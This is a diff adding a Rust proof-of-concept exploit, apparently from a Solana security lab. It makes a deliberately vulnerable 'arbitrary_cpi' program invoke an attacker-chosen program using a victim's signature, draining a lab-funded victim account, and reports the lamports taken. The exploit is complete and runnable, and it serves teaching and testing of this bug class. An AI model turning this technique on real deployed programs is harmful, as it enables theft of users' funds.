@@ -0,0 +1,81 @@
+//! poc-arbitrary-cpi: spends a victim's signature on the attacker's program
+//!
+//! ```bash
+//! poc-arbitrary-cpi [--rpc URL] [--amount LAMPORTS] [--attacker-program ID]
+//! ```
+//!
+//! The victim signs what they take for a small system transfer through the
+//! program, with the attacker's program swapped in as the target, which
+//! takes everything they hold. This plays a victim of its own, funded with
+//! `--amount`; the attacker's program is `arbitrary_cpi_attacker`, deployed
+//! with the examples.
+
+use std::process::ExitCode;
+
+use anyhow::{Context, Result as AnyResult};
+use clap::Parser;
+use lab_client::arbitrary_cpi::Client;
+use lab_client::signers::VICTIM;
+use lab_client::{ids, Signer};
+use lab_pocs::{Exploit, Report, Target};
+use solana_program::pubkey::Pubkey;
+use solana_system_interface::instruction as system_instruction;
+
+#[derive(Parser)]
+#[command(
+    name = "poc-arbitrary-cpi",
+    about = "Have arbitrary_cpi invoke the attacker's program with a victim's signature"
+)]
+struct Args {
+    #[command(flatten)]
+    target: Target,
+    /// What the victim this funds holds
+    #[arg(long, default_value_t = 100_000_000)]
+    amount: u64,
+    /// The attacker's program (default: arbitrary_cpi_attacker's id)
+    #[arg(long)]
+    attacker_program: Option<Pubkey>,
+}
+
+fn main() -> ExitCode {
+    lab_pocs::run(poc)
+}
+
+async fn poc(args: Args) -> AnyResult<Report> {
+    let client = Client::new(args.target.client("arbitrary_cpi")?);
+    let mut report = Report::new("arbitrary_cpi", &args.target, &client);
+    let attacker_program = args
+        .attacker_program
+        .or_else(|| ids::id("arbitrary_cpi_attacker"))
+        .context("Programs.toml has no arbitrary_cpi_attacker id")?;
+    // Only the secure version locks it, and only once it is created
+    let (relay, _bump) = arbitrary_cpi_secure::RELAY.find([], &client.program_id());
+    let attacker = client.payer().pubkey();
+    let victim = args.target.signers().keypair(VICTIM)?;
+    let fund = system_instruction::transfer(&attacker, &victim.pubkey(), args.amount);
+    let signature = client.send(&[fund], &[]).await?;
+    report.setup(
+        format!(
+            "funded victim {} with {} lamports",
+            victim.pubkey(),
+            args.amount
+        ),
+        signature,
+    );
+
+    // What the victim meant to sign: a small system transfer
+    let victim_key = victim.pubkey();
+    let data = system_instruction::transfer(&victim_key, &attacker, 1_000).data;
+    report.inspect(&client, "before", victim_key).await?;
+    // A workshop victim may hold something from an earlier run
+    let held = client.lamports(victim_key).await?;
+    let invoked = client
+        .invoke(&victim, attacker_program, attacker, relay, data)
+        .await;
+    let left = client.lamports(victim_key).await?;
+    report.inspect(&client, "after", victim_key).await?;
+    Ok(report.exploit(
+        victim_key,
+        invoked.map(|_| Exploit::took(held - left, victim_key)),
+    ))
+}